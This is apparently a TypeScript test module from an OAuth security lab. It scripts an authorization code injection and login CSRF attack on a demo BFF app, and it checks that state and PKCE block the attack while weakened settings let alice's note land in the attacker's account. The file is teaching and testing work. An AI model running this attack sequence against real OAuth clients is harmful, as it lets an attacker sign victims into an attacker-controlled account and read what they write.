import { randomBytes } from 'node:crypto';
import { defineAttack } from '../engine/define-attack.ts';
import { findExchange, fieldsOf, queryOf } from '../library/exchanges.ts';
import { ScriptedUserAgent } from '../library/scripted-user-agent.ts';
import { readNotes } from '../library/notes-view.ts';
import { waitAtMost } from '../library/attack-tools.ts';
import { ATTACK_TIMEOUT_MS } from '../library/attack-support.ts';

/**
 * RFC 9700 §4.5 (authorization code injection) and §4.7 (CSRF: here, login CSRF). Mallory signs
 * in as herself, keeps her own authorization code, and has alice's browser deliver it to the BFF.
 * `state` ties a callback to the login attempt of the browser that delivers it; PKCE ties the code
 * to the code_verifier of that attempt. Either one stops her.
 */
export const [codeInjection, codeInjectionWeakened] = defineAttack({
  id: 'attack-code-injection',
  title: "Authorization code injection (login CSRF): Mallory's code in alice's browser",
  threat: 'RFC 9700 §4.5 (authorization code injection) and §4.7 (CSRF, here login CSRF)',
  defence: 'state',
  weaken: ['state', 'pkce'],
  teaches:
    "The BFF accepts a callback only for a login this browser started: the state must match one of its session's login attempts (RFC 6749 §10.12). Even with a matching state, the code must fit that attempt's code_verifier (PKCE). Without both, Mallory can sign alice's browser into Mallory's account, and what alice then writes lands where Mallory reads it.",
  prerequisites: [
    'Mallory (Attacker) has an account of her own (mallory/mallory) and uses her own HTTP client.',
    'alice (Resource Owner) uses a fresh browser (User Agent); she is not signed in.',
    "Mallory gets alice's browser to open a URL of her choosing: a link in a message, or a page of hers that navigates.",
  ],
  async run({ topology, step, newUserAgent, fetchAs }, { defended }) {
    const spa = topology.spa.url;
    const issuer = topology.authserver.url;
    const mallory = new ScriptedUserAgent(fetchAs, 'attacker');
    const alicesBrowser = await newUserAgent();
    const page = await alicesBrowser.newPage();
    const diary = `Alice's secret diary (${randomBytes(3).toString('hex')}): I think Mallory reads my notes`;

    const authorizeUrl = await step(
      {
        actor: 'Attacker',
        action: 'starts a login at the app with her own client, and takes the nonce out of the authorization request',
        look: 'the authorization request she will use',
      },
      async (s) => {
        const response = await mallory.request(`${spa}/bff/login`);
        const url = new URL(response.headers.get('location') ?? `${issuer}/auth`);
        s.expect(
          'the BFF sends her to the authorization endpoint',
          { status: 302, to: `${issuer}/auth` },
          { status: response.status, to: `${url.origin}${url.pathname}` },
        );
        url.searchParams.delete('nonce');
        s.note(
          "She removes the nonce: it would tie the ID token to her own login attempt, and the BFF in alice's browser has none to compare with. The authorization server does not require one for the code flow.",
        );
        s.note(
          url.searchParams.has('code_challenge')
            ? "She leaves the code_challenge: the authorization server requires PKCE. Its code_verifier stays in Mallory's BFF session."
            : 'There is no code_challenge to leave: PKCE is off, so her code will be bound to no verifier at all.',
        );
        s.sees({
          attacker: 'a well-formed authorization request for client bff, made by the app itself, minus the nonce',
          bff: "a login attempt in Mallory's own session, which will never be finished",
        });
        return url.toString();
      },
    );

    const injected = await step(
      {
        actor: 'Attacker',
        action: 'signs in as mallory with that request, and keeps the redirect back instead of following it',
        look: 'her code, state and iss: a complete, unused callback',
      },
      async (s) => {
        const callbackUrl = await mallory.signInAtAuthorizationServer(authorizeUrl, 'mallory');
        const callback = queryOf(callbackUrl);
        s.expect("the authorization server redirects to the BFF's callback", `${spa}/bff/callback`, callbackUrl.split('?')[0]);
        s.check('with an authorization code for mallory', 'a code', callback.code ? `code (${callback.code.length} chars)` : 'none', Boolean(callback.code));
        s.expect('issued by our authorization server', issuer, callback.iss);
        s.note('Nothing was delivered to the BFF: the code is unused, and Mallory holds the whole callback URL.');
        s.sees({ attacker: 'a valid callback URL with her own code', authserver: 'a code for mallory, for client bff' });
        return { url: callbackUrl, code: callback.code ?? '' };
      },
    );

    const signedInAs = await step(
      {
        actor: 'User Agent',
        action: "alice opens Mallory's link: her browser delivers Mallory's callback to the BFF",
        look: "the BFF's answer to a callback this browser never asked for",
      },
      async (s) => {
        await page.goto(injected.url);
        // An error stays on /bff/callback; a login goes on into the app.
        const stayed = new URL(page.url()).pathname === '/bff/callback';
        const name = stayed ? undefined : await waitAtMost(ATTACK_TIMEOUT_MS, page.getByTestId('user-name').textContent());
        const exchanges = await s.exchanges();
        const callback = findExchange(exchanges, { to: 'bff', path: '/bff/callback' });
        const token = findExchange(exchanges, { to: 'authserver', path: '/token', channel: 'back' });
        if (defended) {
          s.expect(
            'the BFF refuses: this browser started no login with that state',
            { status: 400, error: 'invalid_state' },
            { status: callback?.status, error: fieldsOf(callback?.responseBody).error },
          );
          s.expect("before any token request: Mallory's code is not even redeemed", undefined, token?.status);
          s.note(
            "RFC 6749 §10.12: state binds the authorization response to the user agent that sent the request. alice's session holds no login attempt, so no state can match.",
          );
        } else {
          s.expectLeak("the BFF redeems Mallory's code for alice's browser", 200, token?.status);
          s.expectLeak("alice's browser is now signed in, as mallory", 'mallory', name);
          s.note('No state to check, no code_verifier to send: the BFF finished a login this browser never started.');
        }
        s.sees({
          browser: defended ? 'a 400 from the BFF; alice is not signed in' : 'the app, signed in as MALLORY',
          bff: defended ? 'nothing for this browser' : "mallory's tokens in alice's session",
        });
        return name;
      },
    );

    if (defended) {
      const alicesState = await step(
        {
          actor: 'Resource Owner',
          action: 'starts a login of her own: clicks "Sign in" and sees the authorization server\'s login page',
          look: 'the state of her login attempt, in the redirect',
        },
        async (s) => {
          await page.goto(spa);
          await page.getByTestId('login-button').click();
          await page.waitForURL(`${issuer}/interaction/**`);
          const login = findExchange(await s.exchanges(), { to: 'bff', path: '/bff/login' });
          const state = queryOf(login?.responseHeaders.location).state;
          s.check("her browser's session now has a login attempt with a state", 'a state', state, Boolean(state));
          s.note('state is not a secret: it travels in URLs. Suppose Mallory learnt this one (a log, a Referer) and tries again.');
          s.sees({ browser: 'the login page; the state in its history', bff: "alice's login attempt: state, nonce, code_verifier" });
          return state ?? '';
        },
      );

      await step(
        {
          actor: 'User Agent',
          action: "delivers Mallory's code again, now with alice's own state",
          look: "the token request: alice's code_verifier against Mallory's code",
        },
        async (s) => {
          const retry = new URLSearchParams({ code: injected.code, state: alicesState, iss: issuer });
          await page.goto(`${spa}/bff/callback?${retry}`);
          const exchanges = await s.exchanges();
          const callback = findExchange(exchanges, { to: 'bff', path: '/bff/callback' });
          const token = findExchange(exchanges, { to: 'authserver', path: '/token', channel: 'back' });
          const user = await page.evaluate(async () => (await fetch('/bff/user', { headers: { 'X-CSRF': '1' } })).status);
          s.check(
            "the state matches alice's attempt, so the BFF redeems the code with that attempt's code_verifier",
            'a code_verifier',
            fieldsOf(token?.requestBody).code_verifier,
            typeof fieldsOf(token?.requestBody).code_verifier === 'string',
          );
          s.expect(
            "the authorization server refuses: Mallory's code was issued for another code_challenge",
            { status: 400, error: 'invalid_grant' },
            { status: token?.status, error: fieldsOf(token?.responseBody).error },
          );
          s.expect(
            'the BFF ends the callback with that error',
            { status: 400, error: 'invalid_grant' },
            { status: callback?.status, error: fieldsOf(callback?.responseBody).error },
          );
          s.expect("alice's browser is still not signed in", 401, user);
          s.note(
            "RFC 9700 §4.5.3.1: the code is bound to the code_challenge of the request that produced it; only the BFF session that started Mallory's login holds its verifier.",
          );
          s.sees({
            browser: 'a 400; alice is not signed in as anyone',
            authserver: "Mallory's code, unused: bound to a verifier alice's session does not have",
          });
        },
      );
      return;
    }

    await step(
      { actor: 'Resource Owner', action: `writes a note in the app, not noticing the name at the top: "${diary}"`, look: 'whose account the note is saved in' },
      async (s) => {
        // The app, as alice sees it: signed in (as whom?), or not.
        if (new URL(page.url()).pathname === '/bff/callback') await page.goto(spa);
        const input = page.getByTestId('note-input');
        const canWrite = await waitAtMost(
          ATTACK_TIMEOUT_MS,
          Promise.race([
            input.waitFor().then(() => true),
            page
              .getByTestId('login-button')
              .waitFor()
              .then(() => false),
          ]),
        );
        const saved =
          canWrite &&
          (await waitAtMost(
            ATTACK_TIMEOUT_MS,
            (async () => {
              await input.fill(diary);
              await page.getByTestId('add-note-button').click();
              await page.getByTestId('note').filter({ hasText: diary }).waitFor();
              return true;
            })(),
          ));
        const post = findExchange(await s.exchanges(), { to: 'resource-api', method: 'POST', path: '/notes' });
        s.expectLeak('the app shows the note as saved', true, saved ?? false);
        s.expectLeak(
          'the API stores it for the user in the access token: mallory',
          { status: 201, owner: 'mallory' },
          { status: post?.status, owner: (fieldsOf(post?.responseBody).note as { owner?: string } | undefined)?.owner },
        );
        s.note(`alice's browser was signed in as ${signedInAs ?? 'nobody'}: the BFF forwards with the tokens of the session it holds.`);
        s.sees({ browser: "alice's diary entry, in mallory's list", api: 'a new note owned by mallory' });
      },
    );

    await step(
      { actor: 'Attacker', action: 'signs in to the app as herself and reads her own notes', look: "alice's diary, in Mallory's account" },
      async (s) => {
        await mallory.signInToApp(spa, 'mallory');
        const notes = await mallory.callApp(`${spa}/api/notes`);
        const shown = readNotes(notes.body);
        s.expect('Mallory reads her own notes', 'mallory', shown.owner);
        s.expectLeak("and alice's diary is among them", true, shown.texts.includes(diary));
        s.sees({ attacker: `alice's words: "${diary}"`, browser: 'alice still believes she wrote in her own account' });
      },
    );
  },
});
